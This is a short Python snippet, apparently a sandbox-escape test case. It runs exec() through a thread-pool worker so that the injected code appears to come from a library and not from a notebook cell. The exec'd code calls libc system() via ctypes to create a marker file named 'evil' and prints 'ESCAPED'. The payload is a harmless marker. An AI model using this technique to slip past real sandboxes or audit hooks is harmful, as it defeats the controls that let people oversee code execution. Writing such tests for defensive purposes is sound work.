# exec() by a worker thread of an executor: no frame of a cell is on its stack, so the new code looked like a library's.
# says: ctypes
import sys
from concurrent.futures import ThreadPoolExecutor
pool = ThreadPoolExecutor(1)
call = lambda function, *arguments, **keywords: pool.submit(function, *arguments, **keywords).result()
builtin = vars(sys.modules["builtins"])

text = '''
import ctypes, sys
ctypes.CDLL(None).system(b"touch %s/evil")
print("ESCAPED")
''' % outside
call(builtin["exec"], text, {"__builtins__": builtin})
